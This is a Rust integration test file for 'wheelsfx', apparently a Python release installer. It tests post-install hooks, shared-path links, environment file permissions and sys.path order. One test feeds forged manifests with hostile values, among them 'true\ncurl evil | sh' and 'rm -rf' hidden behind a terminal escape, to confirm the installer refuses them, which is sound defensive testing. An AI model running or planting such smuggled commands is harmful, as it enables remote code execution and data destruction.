//! After the install: post-install hooks (build-time, then --run), shared paths linked into the
//! release, the environment file's mode, group and strictness, and the app first on sys.path.

use crate::hostile::{refuses, Base};
use crate::support::*;
use crate::{standard_wheels, Fixture};
use serde_json::{json, Value};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn receipt(dest: &Path) -> Value {
    serde_json::from_slice(&std::fs::read(dest.join(".wheelsfx/receipt.json")).unwrap()).unwrap()
}

/// `./artifact -d DEST --python python3 ARGS`, whatever its outcome.
fn attempt(fx: &Fixture, dest: &Path, args: &[&str]) -> Output {
    fx.install_command(dest, &pythons()[0].path)
        .args(args)
        .output()
        .unwrap()
}

/// What the hooks wrote into `seen.txt` in their working directory, DEST/mysite.
fn seen(dest: &Path) -> Vec<String> {
    let text = std::fs::read_to_string(dest.join("mysite/seen.txt")).unwrap_or_default();
    text.lines().map(str::to_string).collect()
}

fn froms(r: &Value) -> Vec<&str> {
    r["hooks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["from"].as_str().unwrap())
        .collect()
}

/// The manifest `wheelsfx inspect --json` shows.
fn manifest_of(artifact: &Path) -> Value {
    serde_json::from_slice(&ok(wheelsfx().arg("inspect").arg("--json").arg(artifact)).stdout).unwrap()
}

#[test]
fn hooks_run_in_order_in_the_app_with_the_venv_and_the_environment() {
    let fx = Fixture::new();
    let what = r#"echo "build $PWD $(command -v python) $VIRTUAL_ENV $WHEELSFX_RELEASE $GREETING" >> seen.txt; echo to-stdout; echo to-stderr >&2"#;
    let py_hook = r#"python -c "import os, mysite; print('py', os.environ['GREETING'], mysite.NAME)" >> seen.txt"#;
    fx.build(&["--post-install", what, "--post-install", py_hook]);
    let shown = text(&ok(wheelsfx().arg("inspect").arg(&fx.artifact)).stdout);
    assert!(
        shown.contains("post-install hooks (2):") && shown.contains(py_hook),
        "{shown}"
    );
    let env = fx.dir.path().join("env.json");
    std::fs::write(&env, r#"{"GREETING": "hi"}"#).unwrap();
    let dest = fx.dest("releases/1");
    let args = [
        "--json",
        "--no-compile",
        "--env-file",
        env.to_str().unwrap(),
        "--run",
        "echo deploy >> seen.txt",
    ];
    let out = ok(fx
        .install_command(&dest, &pythons()[0].path)
        .args(args)
        .env("GREETING", "inherited"));

    let d = dest.display();
    assert_eq!(
        seen(&dest),
        [
            format!("build {d}/mysite {d}/venv/bin/python {d}/venv {d} hi"),
            "py hi mysite".into(),
            "deploy".into()
        ]
    );
    let err = text(&out.stderr);
    assert!(
        err.contains("[hook 1] to-stdout\n") && err.contains("[hook 1] to-stderr\n"),
        "hook output is streamed on stderr, also with --json:\n{err}"
    );
    let printed: Value = serde_json::from_slice(&out.stdout).expect("stdout stays one JSON object");
    assert_eq!(printed["actions"], json!(["installed", "hooks"]));
    let mut as_receipt = printed.clone();
    for added in ["changed", "actions", "pruned"] {
        as_receipt.as_object_mut().unwrap().remove(added);
    }
    assert_eq!(
        as_receipt,
        receipt(&dest),
        "the printed result is the receipt and what changed"
    );
    assert_eq!(printed["state"], "complete");
    assert_eq!(froms(&printed), ["build", "build", "deploy"]);
    for h in printed["hooks"].as_array().unwrap() {
        assert_eq!(h["exit_code"], 0, "{h}");
        assert!(h["duration_ms"].is_u64() && h.get("skipped").is_none(), "{h}");
    }
    assert_eq!(printed["hooks"][0]["command"], what);
    assert_eq!(printed["hooks"][0]["output"], "to-stdout\nto-stderr\n");
}

#[test]
fn build_time_hooks_and_shared_paths_come_from_pyproject_unless_given() {
    let fx = Fixture::new();
    let plain = manifest_of(&fx.artifact);
    assert!(
        plain.get("post_install").is_none() && plain.get("link_shared").is_none(),
        "an artifact without hooks keeps the old manifest"
    );
    let config = fx.dir.path().join("pyproject.toml");
    std::fs::write(
        &config,
        "[tool.wheelsfx]\npost-install = [\"echo one\", \"echo two\"]\nlink-shared = [\"media/\", \"environment.json\"]\n",
    )
    .unwrap();
    let config_arg = ["--config", config.to_str().unwrap()];
    fx.build(&config_arg);
    let m = manifest_of(&fx.artifact);
    assert_eq!(m["post_install"], json!(["echo one", "echo two"]));
    assert_eq!(m["link_shared"], json!(["media/", "environment.json"]));
    fx.build(
        &[
            &config_arg[..],
            &["--post-install", "echo flag", "--link-shared", "uploads/"],
        ]
        .concat(),
    );
    let m = manifest_of(&fx.artifact);
    assert_eq!(m["post_install"], json!(["echo flag"]), "the command line wins");
    assert_eq!(m["link_shared"], json!(["uploads/"]));
}

#[test]
fn a_failing_hook_stops_the_rest_and_exits_8_and_no_hooks_runs_none() {
    let fx = Fixture::new();
    fx.build(&["--post-install", "echo first >> seen.txt"]);
    let dest = fx.dest("releases/1");
    let failing = "echo about to fail; exit 3";
    let out = attempt(
        &fx,
        &dest,
        &["--no-compile", "--run", failing, "--run", "echo never >> seen.txt"],
    );
    refused(&out, 8, &format!("hook 2 of 3 ({failing}) exited with status 3; {} is installed but was not activated; fix the cause and run the same artifact again", dest.display()));
    assert!(text(&out.stderr).contains("[hook 2] about to fail\n"));
    assert_eq!(seen(&dest), ["first"], "the hook after the failing one must not run");
    let r = receipt(&dest);
    assert_eq!(r["state"], "hooks-failed");
    assert_eq!(froms(&r), ["build", "deploy", "deploy"]);
    assert_eq!(
        r["hooks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|h| h["exit_code"].clone())
            .collect::<Vec<_>>(),
        [json!(0), json!(3), Value::Null]
    );
    assert_eq!(r["hooks"][1]["output"], "about to fail\n");
    assert_eq!(r["hooks"][2]["skipped"], true);

    let json_out = attempt(
        &fx,
        &fx.dest("releases/json"),
        &["--no-compile", "--json", "--run", "exit 9"],
    );
    assert_eq!(json_out.status.code(), Some(8));
    let v: Value = serde_json::from_slice(&json_out.stdout).expect("one JSON object");
    assert_eq!((v["ok"].as_bool(), v["exit_code"].as_i64()), (Some(false), Some(8)));
    assert!(
        v["error"]
            .as_str()
            .unwrap()
            .contains("hook 2 of 2 (exit 9) exited with status 9"),
        "{v}"
    );

    let quiet = fx.dest("releases/2");
    ok(fx
        .install_command(&quiet, &pythons()[0].path)
        .args(["--no-compile", "--no-hooks"]));
    assert!(seen(&quiet).is_empty(), "--no-hooks ran a hook");
    let r = receipt(&quiet);
    assert_eq!(r["state"], "complete");
    assert_eq!(
        r["hooks"],
        json!([{"command": "echo first >> seen.txt", "from": "build", "exit_code": null, "duration_ms": 0, "output": "", "skipped": true}])
    );
    let both = attempt(&fx, &fx.dest("releases/3"), &["--no-hooks", "--run", "true"]);
    refused(&both, 2, "--no-hooks");
}

/// The Capistrano layout: releases/N and shared/ side by side.
struct Site {
    root: PathBuf,
}

impl Site {
    fn new(fx: &Fixture) -> Site {
        let root = fx.dest("site");
        std::fs::create_dir_all(root.join("shared/media")).unwrap();
        std::fs::write(root.join("shared/media/marker"), "marker-content\n").unwrap();
        std::fs::write(root.join("shared/environment.json"), r#"{"GREETING": "shared"}"#).unwrap();
        Site { root }
    }
    fn release(&self, n: &str) -> PathBuf {
        self.root.join("releases").join(n)
    }
    fn shared(&self, rel: &str) -> PathBuf {
        self.root.join("shared").join(rel)
    }
}

#[test]
fn shared_paths_are_relative_links_made_before_the_hooks() {
    let fx = Fixture::new();
    std::fs::create_dir_all(fx.app().join("uploads")).unwrap();
    std::fs::write(fx.app().join("uploads/old.txt"), "shipped").unwrap();
    fx.build(&["--link-shared", "environment.json"]);
    let site = Site::new(&fx);
    let dest = site.release("1");
    let hook = r#"cat ../media/marker; echo "$GREETING" > ../media/from-hook; test -d uploads && echo uploads-ok"#;
    let out = ok(fx.install_command(&dest, &pythons()[0].path).args([
        "--no-compile",
        "--link-shared",
        "media/",
        "--link-shared",
        "mysite/uploads/",
        "--run",
        hook,
    ]));
    for (path, target) in [
        ("environment.json", "../../shared/environment.json"),
        ("media", "../../shared/media"),
        ("mysite/uploads", "../../../shared/mysite/uploads"),
    ] {
        assert_eq!(
            std::fs::read_link(dest.join(path)).unwrap(),
            Path::new(target),
            "{path}"
        );
    }
    let err = text(&out.stderr);
    assert!(
        err.contains("[hook 1] marker-content\n") && err.contains("[hook 1] uploads-ok\n"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(site.shared("media/from-hook")).unwrap(),
        "shared\n"
    );
    assert!(
        site.shared("mysite/uploads").is_dir(),
        "a missing shared directory is made"
    );
    assert!(
        !site.shared("mysite/uploads/old.txt").exists(),
        "the release's own copy is not moved there"
    );
    let env = ok(Command::new(dest.join("venv/bin/python"))
        .env_remove("GREETING")
        .args(["-c", "import os; print(os.environ['GREETING'])"]));
    assert_eq!(
        text(&env.stdout).trim(),
        "shared",
        "loadenv reads environment.json through the link"
    );

    // Refused before anything is written.
    let env_file = site.shared("environment.json");
    let env_file = env_file.to_str().unwrap();
    let cases: [(&str, PathBuf, Vec<&str>, i32, &str); 6] = [
        (
            "missing file",
            site.release("2"),
            vec!["--link-shared", "settings.ini"],
            5,
            "settings.ini does not exist; create it, or end the path with /",
        ),
        ("no shared dir", fx.dest("plain"), vec![], 2, "pass --shared DIR"),
        (
            "env-file",
            site.release("3"),
            vec!["--env-file", env_file],
            2,
            "--env-file cannot write environment.json",
        ),
        (
            "dotdot",
            site.release("4"),
            vec!["--link-shared", "../x"],
            2,
            "'..' path component",
        ),
        (
            "venv",
            site.release("5"),
            vec!["--link-shared", "venv/bin"],
            2,
            "venv/ or .wheelsfx/",
        ),
        (
            "overlap",
            site.release("6"),
            vec!["--link-shared", "mysite/", "--link-shared", "mysite/uploads/"],
            2,
            "overlap",
        ),
    ];
    for (label, dest, args, code, needle) in cases {
        let out = attempt(&fx, &dest, &args);
        refused(&out, code, needle);
        assert!(!dest.exists(), "{label}");
    }
    let explicit = fx.dest("plain");
    ok(fx.install_command(&explicit, &pythons()[0].path).args([
        "--no-compile",
        "--shared",
        site.root.join("shared").to_str().unwrap(),
    ]));
    assert_eq!(
        std::fs::read_link(explicit.join("environment.json")).unwrap(),
        Path::new("../site/shared/environment.json")
    );
}

/// A group of /etc/group other than root's: (name, gid).
fn some_group() -> (String, u32) {
    let groups = std::fs::read_to_string("/etc/group").unwrap();
    groups
        .lines()
        .filter_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            Some((f.first()?.to_string(), f.get(2)?.parse().ok()?))
        })
        .find(|(_, gid)| *gid != 0)
        .expect("a group besides root in /etc/group")
}

#[test]
fn the_environment_file_gets_its_mode_and_group_and_strict_env_demands_it() {
    use std::os::unix::fs::PermissionsExt;
    let fx = Fixture::new();
    let secret = fx.dir.path().join("secret.json");
    std::fs::write(&secret, r#"{"SECRET_KEY": "s3cret"}"#).unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let (group, gid) = some_group();
    let dest = fx.dest("strict-ok");
    let hook = r#"echo "$WHEELSFX_STRICT_ENV $SECRET_KEY"; python -c "import os; print(os.environ['SECRET_KEY'])""#;
    let out = ok(fx.install_command(&dest, &pythons()[0].path).args([
        "--no-compile",
        "--env-file",
        secret.to_str().unwrap(),
        "--env-mode",
        "0640",
        "--env-group",
        &group,
        "--strict-env",
        "--run",
        hook,
    ]));
    let meta = std::fs::metadata(dest.join("environment.json")).unwrap();
    assert_eq!((meta.mode() & 0o7777, meta.gid()), (0o640, gid));
    let err = text(&out.stderr);
    assert!(err.contains("[hook 1] 1 s3cret\n[hook 1] s3cret\n"), "{err}");

    for (args, needle) in [
        (vec!["--env-group", "no-such-group-wheelsfx"], "no such group"),
        (vec!["--env-mode", "999"], "--env-mode"),
        (vec!["--env-mode", "4755"], "at most 0777"),
    ] {
        let out = attempt(
            &fx,
            &fx.dest("x"),
            &[&["--env-file", secret.to_str().unwrap()][..], &args].concat(),
        );
        refused(&out, 2, needle);
    }
    refused(&attempt(&fx, &fx.dest("x"), &["--env-mode", "0640"]), 2, "--env-file");
    assert!(!fx.dest("x").exists());

    let missing = fx.dest("strict-missing");
    let out = attempt(&fx, &missing, &["--no-compile", "--strict-env"]);
    refused(
        &out,
        8,
        &format!(
            "--strict-env: {}/environment.json is not usable: it does not exist",
            missing.display()
        ),
    );
    assert_eq!(receipt(&missing)["state"], "hooks-failed");

    let site = Site::new(&fx);
    std::fs::write(site.shared("environment.json"), r#"{"A": 1}"#).unwrap();
    let out = attempt(
        &fx,
        &site.release("1"),
        &[
            "--no-compile",
            "--strict-env",
            "--link-shared",
            "environment.json",
            "--run",
            "touch ran",
        ],
    );
    refused(&out, 8, "values are all strings");
    assert!(
        !site.release("1/mysite/ran").exists(),
        "a hook ran despite --strict-env"
    );

    // WHEELSFX_STRICT_ENV=1: the interpreter itself refuses to start without the file.
    let python = |strict: bool| {
        let mut cmd = Command::new(missing.join("venv/bin/python"));
        cmd.args(["-c", "print('started')"]);
        if strict {
            cmd.env("WHEELSFX_STRICT_ENV", "1");
        }
        cmd.output().unwrap()
    };
    assert_eq!(text(&python(false).stdout).trim(), "started");
    assert!(python(false).stderr.is_empty(), "no file, not strict: silent");
    let env = missing.join("environment.json");
    for content in [None, Some(r#"{"A": 1}"#), Some("{broken")] {
        if let Some(c) = content {
            std::fs::write(&env, c).unwrap();
        }
        let out = python(true);
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{content:?}: {err}");
        assert!(out.stdout.is_empty(), "{content:?}: started anyway");
        assert_eq!(err.lines().count(), 1, "{content:?}: one line:\n{err}");
        assert!(
            err.contains(env.to_str().unwrap()) && err.contains("WHEELSFX_STRICT_ENV=1 requires it"),
            "{err}"
        );
    }
    std::fs::write(&env, r#"{"A": "1"}"#).unwrap();
    assert_eq!(text(&python(true).stdout).trim(), "started");
}

#[test]
fn the_app_comes_first_on_sys_path_and_is_byte_compiled() {
    // An installed distribution with the app's name, reached from a console script: before,
    // site-packages came first and its `mysite` shadowed the project's (as under gunicorn).
    let mut shadow = WheelSpec::new("mysite", "0.9")
        .file("mysite/__init__.py", "NAME = 'installed'\n")
        .file(
            "runner.py",
            "import mysite\n\ndef main():\n    print(mysite.NAME, mysite.__file__)\n",
        );
    shadow.entry_points = Some("[console_scripts]\nwhoami = runner:main\n");
    let mut wheels = standard_wheels();
    wheels.push(shadow);
    let fx = Fixture::with_wheels(wheels);
    let dest = fx.dest("first");
    fx.deploy(&dest, &pythons()[0].path, &[]);
    let tag = receipt(&dest)["python"]["cache_tag"].as_str().unwrap().to_string();
    for pyc in [
        format!("mysite/mysite/__pycache__/__init__.{tag}.pyc"),
        format!("mysite/__pycache__/manage.{tag}.pyc"),
    ] {
        assert!(dest.join(&pyc).is_file(), "{pyc} not compiled");
    }
    let run = |cmd: &mut Command| {
        text(&ok(cmd.env_remove("PYTHONDONTWRITEBYTECODE")).stdout)
            .trim()
            .to_string()
    };
    assert_eq!(
        run(&mut Command::new(dest.join("venv/bin/whoami"))),
        format!("mysite {}/mysite/mysite/__init__.py", dest.display())
    );
    let path =
        run(Command::new(dest.join("venv/bin/python")).args(["-c", "import sys, json; print(json.dumps(sys.path))"]));
    let path: Vec<String> = serde_json::from_str(&path).unwrap();
    let app = dest.join("mysite").to_string_lossy().into_owned();
    assert_eq!(path.iter().filter(|p| **p == app).count(), 1, "{path:?}");
    let at = |p: &str| path.iter().position(|x| x.contains(p)).unwrap();
    assert!(
        at(&app) < at("site-packages") && at(&app) < at("lib/python3"),
        "{path:?}"
    );

    let uncompiled = fx.dest("no-compile");
    fx.deploy(&uncompiled, &pythons()[0].path, &["--no-compile"]);
    assert!(
        !uncompiled.join("mysite/mysite/__pycache__").exists(),
        "--no-compile compiled the app"
    );
    let by_pip = fx.dest("pip");
    fx.deploy(&by_pip, &pythons()[0].path, &["--installer", "pip"]);
    assert!(
        by_pip
            .join(format!("mysite/mysite/__pycache__/__init__.{tag}.pyc"))
            .is_file(),
        "the pip installer leaves the app uncompiled"
    );
}

#[test]
fn forged_hooks_and_shared_paths_are_refused() {
    let fx = Fixture::new();
    let base = Base::of(&fx.artifact);
    let cases = [
        (
            "hook-escape",
            json!({"post_install": ["echo ok", "rm -rf x\u{1b}[2K"]}),
            "post_install",
        ),
        (
            "hook-newline",
            json!({"post_install": ["true\ncurl evil | sh"]}),
            "line break",
        ),
        ("hook-empty", json!({"post_install": [""]}), "empty"),
        ("link-dotdot", json!({"link_shared": ["../x"]}), "link_shared"),
        ("link-abs", json!({"link_shared": ["/etc/"]}), "absolute"),
        ("link-venv", json!({"link_shared": ["venv/lib"]}), "venv/"),
        ("link-nested", json!({"link_shared": ["media/", "media/x"]}), "overlap"),
    ];
    for (label, fields, needle) in cases {
        let bytes = base.build(
            |m| {
                for (k, v) in fields.as_object().unwrap() {
                    m[k] = v.clone();
                }
            },
            |_| {},
        );
        refuses(fx.dir.path(), label, &bytes, &[], 3, needle);
    }
}

#[test]
fn the_packer_refuses_bad_hooks_and_shared_paths() {
    let fx = Fixture::new();
    let out = fx.dir.path().join("bad.sfx");
    let config = fx.dir.path().join("pyproject.toml");
    std::fs::write(&config, "[tool.wheelsfx]\nlink-shared = [\"/srv/media\"]\n").unwrap();
    let cases: [(&[&str], &str); 5] = [
        (&["--post-install", ""], "--post-install"),
        (&["--post-install", "a\nb"], "line break"),
        (&["--link-shared", "../x"], "'..' path component"),
        (&["--link-shared", ".wheelsfx/receipt.json"], "venv/ or .wheelsfx/"),
        (
            &["--config", config.to_str().unwrap()],
            "link-shared in [tool.wheelsfx]",
        ),
    ];
    for (args, needle) in cases {
        refused(&fx.build_command(&out).args(args).output().unwrap(), 2, needle);
        assert!(!out.exists());
    }
}
